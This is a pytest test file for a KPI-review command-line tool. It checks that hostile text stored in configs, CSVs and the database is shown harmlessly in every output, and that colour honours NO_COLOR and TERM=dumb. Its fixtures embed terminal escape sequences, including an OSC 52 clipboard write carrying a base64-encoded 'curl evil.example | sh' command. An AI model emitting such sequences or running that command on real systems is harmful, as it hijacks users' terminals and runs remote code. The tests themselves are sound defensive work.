"""Text from a config, a CSV or the database never drives the terminal, and colour obeys
NO_COLOR and TERM=dumb: every command's output and the notes file, with hostile text."""

from __future__ import annotations

import json
from datetime import date, timedelta
from pathlib import Path

import click.testing
import pytest
from click.testing import CliRunner

from kpireview.cli import cli
from kpireview.store import Store
from kpireview.text import json_text, safe
from tests.conftest import run

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard := 'curl evil.example | sh'
OSC2 = "\x1b]2;pwned\x07"  # window title
CSI8 = "\x9b2J"  # 8-bit CSI: clear the screen
RAW = ("\x1b", "\x9b", "\x07")
WEEK = date(2026, 11, 16)  # 2026-W47

HOSTILE_CONFIG = r"""
review:
  title: "Team \e]2;pwned\a review"
pillars:
  - {id: rev, label: "Revenue \x9b2J"}
metrics:
  - id: mrr
    label: "MRR \e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a"
    pillar: rev
    unit: currency
    currency: "€"
    owner: "bob \e]2;pwned\a"
    description: "desc \x9b2J"
  - id: cost
    label: "Cost \x9b2J"
    pillar: rev
    unit: currency
    currency: "€"
  - id: margin
    label: Margin
    pillar: rev
    unit: currency
    currency: "€"
    formula: mrr - cost
"""


def hostile(directory: Path) -> tuple[Path, Path]:
    """A config and a database whose labels, owner, segment and decision hold OSC 52, OSC 2
    and 8-bit CSI sequences. Returns (config, db)."""
    cfg = directory / "evil.yaml"
    cfg.write_text(HOSTILE_CONFIG, encoding="utf-8")
    db = directory / "evil.db"
    rows = []
    for k in range(10):
        week = WEEK - timedelta(weeks=9 - k)
        rows += [("mrr", week, "", 1000.0 + 10 * k), ("cost", week, "", 400.0 + k)]
        rows.append(("mrr", week, f"eu{OSC52}", 500.0 + k))
    with Store(db) as store:
        store.upsert_snapshots(rows, source=f"x{OSC2}.csv")
        store.add_decision(
            "mrr", WEEK, note=f"note {OSC52}", decision=f"do {OSC2}", owner=f"eve{CSI8}",
            due=WEEK + timedelta(days=4), expected=f"more {CSI8}", author="eve",
        )  # fmt: skip
        store.add_decision(
            "mrr", WEEK - timedelta(weeks=2), note=f"older {OSC2}", owner=f"own{OSC52}",
            due=WEEK, author="eve",
        )  # fmt: skip
    return cfg, db


def assert_inert(text: str) -> None:
    for ch in RAW:
        assert ch not in text, f"{ch!r} reached the output"


@pytest.fixture
def evil(tmp_path: Path) -> tuple[Path, Path]:
    return hostile(tmp_path)


def test_safe_shows_every_control_visibly() -> None:
    text = "a\x1b]2;t\x07b\x9bc\x7fd\u202ee\r\nf\tg"
    out = safe(text)
    assert len(out) == len(text)
    assert "␛]2;t␇b" in out and "\x1b" not in out and "\x9b" not in out
    assert "\x7f" not in out and "\u202e" not in out and "\r" not in out
    assert "\nf\tg" in out
    assert safe("plain €") == "plain €"


def test_summary_neutralises_stored_text(evil: tuple[Path, Path]) -> None:
    cfg, db = evil
    result = run("summary", "--db", db, "--config", cfg)
    assert result.exit_code == 0, result.output
    assert "MRR ␛]52;c;" in result.output
    assert_inert(result.output)


def test_markdown_export_neutralises_stored_text(evil: tuple[Path, Path], tmp_path: Path) -> None:
    cfg, db = evil
    result = run("export", "--db", db, "--config", cfg)
    assert result.exit_code == 0, result.output
    assert "note ␛" in result.output
    assert_inert(result.output)
    notes = tmp_path / "notes.md"
    assert run("export", "--db", db, "--config", cfg, "-o", notes).exit_code == 0
    assert_inert(notes.read_text(encoding="utf-8"))


def test_decisions_text_neutralises_stored_text(evil: tuple[Path, Path]) -> None:
    cfg, db = evil
    result = run("decisions", "--db", db, "--config", cfg)
    assert result.exit_code == 0, result.output
    assert "note ␛" in result.output
    assert_inert(result.output)


def test_check_neutralises_stored_text(evil: tuple[Path, Path]) -> None:
    cfg, db = evil
    with Store(db) as store:  # data under an id the config does not name
        store.upsert_snapshots([(f"ghost{OSC2}", WEEK, "", 1.0)])
    result = run("check", "--db", db, "--config", cfg)
    assert "ghost␛" in result.output or "eu␛" in result.output
    assert_inert(result.output)


@pytest.mark.parametrize(
    "command", [("export", "--format", "json"), ("decisions", "--format", "json")]
)
def test_json_escapes_c1_and_stays_the_same_value(
    evil: tuple[Path, Path], command: tuple[str, ...]
) -> None:
    cfg, db = evil
    result = run(*command, "--db", db, "--config", cfg)
    assert result.exit_code == 0, result.output
    assert_inert(result.output)
    doc = json.loads(result.output)
    assert any(OSC52 in text for text in _strings(doc))  # the values themselves are kept


def _strings(obj: object) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        obj = list(obj.values())
    if isinstance(obj, list):
        return [s for x in obj for s in _strings(x)]
    return []


def test_json_text_is_valid_json() -> None:
    value = {"k\x9b": ["\x1b[31m", "\x85\u2028\u202e", "plain €"]}
    out = json_text(value)
    assert_inert(out)
    assert "\x85" not in out and "\u202e" not in out
    assert json.loads(out) == value


# --- colour ----------------------------------------------------------------------------------


def _summary_on_a_terminal(monkeypatch: pytest.MonkeyPatch, sample_db: Path, **env: str) -> str:
    from tests.conftest import CONFIG

    monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda self: True)
    for name in ("NO_COLOR", "TERM"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    result = CliRunner().invoke(
        cli, ["summary", "--db", str(sample_db), "--config", str(CONFIG)], color=True
    )
    assert result.exit_code == 0, result.output
    return result.output


def test_summary_colours_on_a_terminal(monkeypatch: pytest.MonkeyPatch, sample_db: Path) -> None:
    assert "\x1b[" in _summary_on_a_terminal(monkeypatch, sample_db, TERM="xterm")


@pytest.mark.parametrize("env", [{"NO_COLOR": "1", "TERM": "xterm"}, {"TERM": "dumb"}])
def test_summary_obeys_no_color_and_dumb_terminals(
    monkeypatch: pytest.MonkeyPatch, sample_db: Path, env: dict[str, str]
) -> None:
    assert "\x1b" not in _summary_on_a_terminal(monkeypatch, sample_db, **env)


def test_empty_no_color_still_colours(monkeypatch: pytest.MonkeyPatch, sample_db: Path) -> None:
    out = _summary_on_a_terminal(monkeypatch, sample_db, NO_COLOR="", TERM="xterm")
    assert "\x1b[" in out


def test_restatements_and_revisions_neutralise_stored_text(
    evil: tuple[Path, Path], tmp_path: Path
) -> None:
    """`history`, `decisions --id N --history` (text and JSON) and the import's 'revised'
    lines quote segment names, sources and decision text from the database and the file."""
    cfg, db = evil
    with Store(db) as store:  # a restated segment value, its source a hostile file name
        store.upsert_snapshots([("mrr", WEEK, f"eu{OSC52}", 1.0)], source=f"y{OSC2}.csv")
        store.update_decision(1, editor=f"mal{CSI8}", base=1, note=f"edited {OSC2}")
    csv = tmp_path / "restate.csv"
    csv.write_text(f"metric,week,value,segment\nmrr,2026-W47,2.0,eu{OSC52}\n", encoding="utf-8")
    imported = run("import", csv, "--db", db, "--config", cfg)
    assert imported.exit_code == 0, imported.output
    assert "eu␛]52" in imported.output and "revised" in imported.output
    outputs = [imported.output]
    for args in (
        ("history", "mrr"),
        ("decisions", "--id", "1", "--history"),
        ("decisions", "--id", "1", "--history", "--format", "json"),
    ):
        result = run(*args, "--db", db, "--config", cfg)
        assert result.exit_code == 0, result.output
        outputs.append(result.output)
    assert "y␛]2;pwned␇.csv" in outputs[1]
    assert "edited ␛]2" in outputs[2] and "mal\ufffd2J" in outputs[2]
    assert json.loads(outputs[3])["revisions"][-1]["note"] == f"edited {OSC2}"
    for text in outputs:
        assert_inert(text)
